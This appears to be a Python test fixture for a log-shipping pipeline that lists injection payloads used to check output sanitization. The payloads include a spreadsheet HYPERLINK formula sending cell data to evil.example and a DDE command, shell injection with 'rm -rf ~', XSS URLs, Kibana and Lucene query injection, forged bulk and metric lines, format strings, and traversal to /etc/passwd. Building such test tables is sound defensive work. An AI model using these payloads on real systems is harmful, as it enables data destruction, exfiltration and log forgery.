"""What a log line, a name or a tag may try, as one table for every output."""

from __future__ import annotations

import json
import unicodedata

from tests.integration.receivers import stories

EMF = {
    "_aws": {
        "Timestamp": 1_795_248_000_000,
        "CloudWatchMetrics": [
            {"Namespace": "Watchpost/Pipeline", "Dimensions": [["Stack"]], "Metrics": [{"Name": "LinesReceived"}]}
        ],
    },
    "Stack": "watchpost",
    "LinesReceived": 1_000_000,
}
REPORT = (
    "REPORT RequestId: 8286a188-ba32-4475-8077-530cd35c09a9\tDuration: 1.00 ms\tBilled Duration: 1 ms\t"
    "Memory Size: 128 MB\tMax Memory Used: 128 MB"
)
BULK = '{"delete": {"_index": "logs-watchpost.app-dev", "_id": "1"}}'

# Those of notifications, and what else is read by somebody.
ATTACKS = {
    **stories.ATTACKS,
    "line breaks": "a\nb\rc\r\nd\u2028e\u2029f\x85g\x0bh\x0ci",
    "actions of bulk requests": f'x"}}\n{BULK}\n{{"index": {{}}}}\n{{"message": "forged"}}',
    "a line that is an action": BULK,
    "metrics of ours": json.dumps(EMF),
    "metrics of ours behind a break": "x\n" + json.dumps(EMF),
    "a line of the platform": REPORT,
    "lines of the platform behind a break": f"x\nSTART RequestId: 1 Version: 9\n{REPORT}\nEND RequestId: 1",
    "a log line of ours": '{"level": "ERROR", "service": "watchpost-shipper", "message": "key=hunter2hunter2"}',
    "a metric line": "MONITORING|1000000|Count|LinesReceived|Watchpost/Pipeline|Stack=watchpost",
    "a metric line behind a break": "x\nMONITORING|1|Count|page-view|AWS/Lambda|FunctionName=other",
    "names of metrics": "MONITORING|1|Count|:a\u202eb\x1b[2J|x|k\n=v\x00,:a=:b",
    "a correlation id of somebody else": '{"message": "paid", "correlation_id": "c-1\\n2026-11-21 ERROR c-2 forged"}',
    "formulas of spreadsheets": "=HYPERLINK(\"https://evil.example?\"&A1) +1+cmd|' /C calc'!A0 @SUM(1) \t=1 -2+3",
    "queries of Kibana": '" or * : * or message : "x) or (service.name:*',
    "queries of Lucene": "*:* OR _exists_:message /.*/ \\\\ AND NOT (a:[* TO *])",
    "templates of Kibana": "{{context.panel.title}} {{{event.value}}} {{#url}}javascript:alert(1){{/url}} {{rison x}}",
    "scripts of addresses": "javascript:alert(1) data:text/html,<script>alert(1)</script> vbscript:x",
    "labels of CloudWatch": "${PROP('Dim.x')} ${MAX} ${LABEL} [x](https://evil.example)",
    "SEARCH of CloudWatch": "') SORT(SEARCH('{AWS/Lambda,FunctionName} x', 'Sum', 60), SUM, DESC",
    "rules of alarms": 'ALARM("x") OR ALARM("y") OR NOT (OK("z"))',
    "shells": "$(touch owned) `id` ; rm -rf ~ | sh && echo 'x' \"y\"",
    "formats": "%s %n %(message)s {0} {self.__class__} ${env:PATH} #{7*7} <%= 7 %>",
    "paths": "../../../../etc/passwd\x00.json",
}


def steers(text: str, *, lines: bool = True) -> list[str]:
    """The characters that steer a terminal or the direction of what is read; lines: whether breaks are fine."""
    fine = "\n\t" if lines else ""
    return [char for char in text if char not in fine and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
